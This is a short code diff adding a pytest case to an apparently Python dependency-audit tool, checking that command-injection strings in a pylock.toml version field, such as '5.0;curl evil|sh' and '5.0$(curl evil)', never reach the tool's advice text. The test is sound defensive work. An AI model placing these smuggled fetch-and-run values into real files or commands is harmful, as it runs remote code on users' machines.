@@ -92,3 +92,11 @@ def test_a_plain_command_stays_advice(
     cli.main(["check"])
 
     assert f"run `{PLAIN} -q -p 3.12 --upgrade-package alpha`" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("version", ["5.0$(curl evil)", "5.0;curl evil|sh", "5.0`curl evil`", "5.0' ; curl evil"])
+def test_what_is_no_version_in_a_lock_is_not_offered(version: str, findings) -> None:
+    lock = f'lock-version = "1.0"\ncreated-by = "a"\n[[packages]]\nname = "django"\nversion = "{version}"\n'
+    files = {"pylock.toml": lock, "Dockerfile": "FROM python:3\nCOPY . .\nRUN pip install django\n"}
+    (found,) = findings(files, "unpinned-install")
+    assert "evil" not in found.message + (found.help or "")
